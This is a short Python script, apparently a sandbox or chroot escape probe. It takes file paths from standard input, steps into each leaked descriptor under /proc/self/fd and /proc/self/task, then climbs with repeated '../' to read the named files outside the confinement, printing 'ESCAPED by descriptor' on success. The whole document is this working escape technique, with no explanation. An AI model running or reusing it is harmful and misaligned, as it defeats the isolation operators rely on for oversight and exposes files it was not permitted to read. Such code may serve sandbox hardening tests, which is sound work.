import os
import sys

facts = [line.split(" ", 1) for line in sys.stdin.read().splitlines()]
files = [value for name, value in facts if name == "file"]
for number in range(256):
    for base in (f"/proc/self/fd/{number}", f"/proc/self/task/{os.getpid()}/fd/{number}"):
        for path in files:
            try:
                os.chdir(base)
                with open("../" * 12 + path.lstrip("/")) as file:
                    print("ESCAPED by descriptor", number, file.read())
            except OSError:
                pass
os.chdir("/")
